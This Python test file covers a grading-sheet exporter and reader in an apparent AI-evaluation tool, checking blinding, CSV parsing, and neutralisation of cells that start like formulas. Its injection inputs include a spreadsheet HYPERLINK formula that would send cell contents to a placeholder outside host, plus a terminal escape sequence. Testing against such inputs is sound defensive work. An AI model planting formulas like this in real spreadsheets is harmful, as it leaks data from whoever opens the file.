"""The grading sheet: blinded, harmless in a spreadsheet, and readable as any spreadsheet program saves it."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.blueprint import Block, Role
from engine.blueprint.conversation import ThreadTurn
from engine.scoring.assessment import Criterion, Grade
from engine.store.grades import BlindGrade
from engine.store.run_records import PairId
from engine.study.judged_pairs import (
    COLUMNS,
    INSTRUCTIONS,
    LONGEST_CELL,
    JudgedPair,
    JudgeWord,
    UnreadableSheet,
    grading_sheet,
    neutral_cell,
    pair_key,
    read_sheet,
    restored_cell,
)
from tests.thoroughness import tried


def pair(number: int = 1, criterion: str = "Names the day", answer: str = "On the 1st.") -> JudgedPair:
    thread = (
        ThreadTurn(Role.SYSTEM, "Be brief.", generated=False),
        ThreadTurn(Role.USER, "When is the rent due?", generated=False),
        ThreadTurn(Role.ASSISTANT, answer, generated=True),
    )
    words = (JudgeWord("strict-judge", 0.25, "slightly present", "The day is missing."),)
    id = PairId("rent", f"digest {number}", Criterion(Block.SHOULD, criterion))
    return JudgedPair(id, 0, thread, "gpt-4o-mini", False, 0.25, words)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def returned(pairs: Sequence[JudgedPair], rows: Sequence[Sequence[str]], delimiter: str = ",") -> str:
    """The sheet as a colleague sends it back, with these cells in the columns grade and note."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    *before, header = rows_of(grading_sheet(()))
    writer.writerows([*before, header])
    for each, cells in zip(pairs, rows, strict=True):
        writer.writerow([pair_key(each.id), "", "", each.criterion.text, *cells])
    return out.getvalue()


# What goes out


def test_a_sheet_has_instructions_and_a_row_for_each_pair() -> None:
    rows = rows_of(grading_sheet([pair()]))
    assert [row[0] for row in rows[: len(INSTRUCTIONS)]] == list(INSTRUCTIONS)
    assert rows[len(INSTRUCTIONS)] == list(COLUMNS)
    assert rows[len(INSTRUCTIONS) + 1 :] == [
        [
            pair_key(pair().id),
            "System: Be brief.\n\nUser: When is the rent due?",
            "On the 1st.",
            "Names the day",
            "",
            "",
        ]
    ]


def test_a_sheet_is_blinded() -> None:
    sheet = grading_sheet([pair()])
    hidden = ("strict-judge", "slightly present.", "0.25", "25", "The day is missing", "gpt-4o-mini")
    assert [each for each in hidden if each in sheet.partition("key,")[2]] == []


def test_an_answer_of_several_turns_shows_all_that_are_graded() -> None:
    thread = (*pair().thread, ThreadTurn(Role.USER, "Why?", False), ThreadTurn(Role.ASSISTANT, "By law.", True))
    several = JudgedPair(pair().id, 0, thread, "m", False, 1.0, ())
    (*_, row) = rows_of(grading_sheet([several]))
    assert row[2] == "Assistant: On the 1st.\n\nUser: Why?\n\nAssistant: By law."


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"open")',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\n=1",
        "  =1",
        "＝1",
        "'=1",
        "'''+1",
    ],
)
def test_a_cell_that_is_like_a_formula_is_neutralised(text: str) -> None:
    (*_, row) = rows_of(grading_sheet([pair(criterion=text, answer=text)]))
    assert [cell[0] for cell in row[2:4]] == ["'", "'"]


@given(st.text(st.sampled_from("='+-@\t\r\n a＝"), max_size=6))
def test_a_neutral_cell_is_restored(text: str) -> None:
    assert restored_cell(neutral_cell(text)) == text


@given(st.text(st.sampled_from("='+-@\t\r\n a＋"), max_size=6))
def test_no_neutral_cell_begins_like_a_formula(text: str) -> None:
    assert neutral_cell(text).lstrip()[:1] not in ("=", "+", "-", "@", "＋")


def test_control_characters_are_visible() -> None:
    assert "\x1b" not in grading_sheet([pair(answer="\x1b[2J")])


def test_a_cell_is_cut_to_what_a_spreadsheet_can_hold() -> None:
    cell = neutral_cell("=" * 50_000)
    assert len(cell) == LONGEST_CELL + 1
    assert cell.endswith("[cut here: the text is longer than a cell can be]")


# What comes back

ONE, TWO, THREE = pair(1), pair(2, "Names the lease"), pair(3, "=Is kind")
ALL = (ONE, TWO, THREE)
IDS = [each.id for each in ALL]


def test_rows_come_back_by_their_key_in_any_order() -> None:
    sheet = read_sheet(returned(ALL[::-1], [["1", ""], ["3", "half"], ["5", ""]]).encode(), IDS)
    assert sheet.grades == {
        ONE.id: BlindGrade(Grade.FULLY_PRESENT),
        TWO.id: BlindGrade(Grade.PARTIALLY_PRESENT, "half"),
        THREE.id: BlindGrade(Grade.ABSENT),
    }
    assert sheet.problems == ()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_it_is_read_as_a_spreadsheet_program_saves_it(delimiter: str, encoding: str) -> None:
    text = returned(ALL, [["4", "“né”"], ["", ""], ["2", ""]], delimiter)
    sheet = read_sheet(text.encode(encoding), IDS)
    assert sheet.grades[ONE.id] == BlindGrade(Grade.MAJORLY_PRESENT, "“né”")
    assert len(sheet.grades) == 3


@pytest.mark.parametrize(
    ("written", "grade"),
    [
        ("1", Grade.ABSENT),
        (" 5 ", Grade.FULLY_PRESENT),
        ("4.0", Grade.MAJORLY_PRESENT),
        ("4,0", Grade.MAJORLY_PRESENT),
        ("Slightly present", Grade.SLIGHTLY_PRESENT),
        ("absent", Grade.ABSENT),
        ("CLASS_PARTIALLY_PRESENT", Grade.PARTIALLY_PRESENT),
        ("", None),
        ("?", None),
        ("skip", None),
    ],
)
def test_a_grade_is_a_number_or_a_class(written: str, grade: Grade | None) -> None:
    sheet = read_sheet(returned([ONE], [[written, ""]]).encode(), IDS)
    assert (sheet.grades, sheet.problems) == ({ONE.id: BlindGrade(grade)}, ())


@pytest.mark.parametrize("written", ["0", "6", "55", "3.5", "good", "present", "1/2"])
def test_what_is_no_grade_is_reported_with_its_row(written: str) -> None:
    sheet = read_sheet(returned([ONE, TWO], [["1", ""], [written, ""]]).encode(), IDS)
    assert list(sheet.grades) == [ONE.id]
    (problem,) = sheet.problems
    assert (problem.row, problem.message) == (9, f"{written!r} is no grade: write a number from 1 to 5")


def test_a_row_of_another_blueprint_is_reported() -> None:
    sheet = read_sheet(returned([ONE, TWO], [["1", ""], ["2", ""]]).encode(), [ONE.id])
    assert list(sheet.grades) == [ONE.id]
    assert "no answer of this blueprint's sample has the key" in sheet.problems[0].message


def test_a_note_that_was_neutralised_comes_back_as_it_was() -> None:
    sheet = read_sheet(returned([ONE], [["1", "'=see"]]).encode(), IDS)
    assert sheet.grades[ONE.id].note == "=see"


def test_columns_may_be_moved_and_instructions_deleted() -> None:
    text = f"Grade,Key\r\n2,{pair_key(ONE.id)}\r\n,\r\n"
    assert read_sheet(text.encode(), IDS).grades == {ONE.id: BlindGrade(Grade.SLIGHTLY_PRESENT)}


@pytest.mark.parametrize("data", [b"", b"hello", b"a,b\r\n1,2\r\n", b"PK\x03\x04\x00\x00", b"key\r\nk1\r\n"])
def test_what_is_no_sheet_is_refused(data: bytes) -> None:
    with pytest.raises(UnreadableSheet, match="No row names the columns key and grade"):
        read_sheet(data, IDS)


@given(st.binary(max_size=200))
def test_no_bytes_break_the_reader(data: bytes) -> None:
    head = f"key,grade\r\n{pair_key(ONE.id)},3\r\n".encode()
    assert ONE.id in read_sheet(head + b'"\r\n' + data, IDS).grades


@settings(max_examples=tried(20, 200))
@given(st.text(max_size=30), st.text(max_size=30))
def test_whatever_the_texts_are_each_pair_is_one_row(criterion: str, answer: str) -> None:
    rows = rows_of(grading_sheet([pair(1, criterion, answer), pair(2, criterion, answer)]))
    assert [len(row) for row in rows[len(INSTRUCTIONS) :]] == [len(COLUMNS)] * 3
